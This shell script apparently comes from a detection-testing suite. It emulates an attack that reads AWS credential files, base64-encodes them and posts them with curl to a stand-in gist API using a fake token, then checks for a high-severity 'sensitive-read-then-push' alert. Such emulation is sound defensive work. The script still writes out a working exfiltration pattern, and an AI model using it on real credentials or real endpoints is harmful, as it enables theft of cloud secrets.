#!/bin/sh
# Emulates scenario curl-gist-aws-credentials (examples/scenarios/curl-gist-aws-credentials.yaml):
# AWS credentials read and posted to a secret gist with `curl --data-binary @file`.
#
# Safe version: the AWS credentials are AWS's documented example keys, the token is fake, and the gist
# API is the in-namespace forge-api stand-in.
#
# Image: curlimages/curl:8.11.1
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need curl base64
emu_check_target "$EMU_FORGE_URL"
work="$EMU_WORKDIR/curl-gist-aws-credentials"
rm -rf "$work"
HOME="$work/home"
emu_fake_secrets "$HOME"
printf '[default]\nregion = eu-west-1\n' >"$HOME/.aws/config"
content=$(cat "$HOME/.aws/credentials" "$HOME/.aws/config" | base64 | tr -d '\n')
printf '{"files":{"x":{"content":"%s"}},"public":false}' "$content" >"$work/g.json"
emu_retry 12 curl -fsS -o /dev/null -X POST -H "Authorization: Bearer ghp_FAKEEXAMPLETOKEN000000000000000000" \
  --data-binary "@$work/g.json" "$EMU_FORGE_URL/gists"
rm -rf "$work"
emu_expect sensitive-read-then-push high
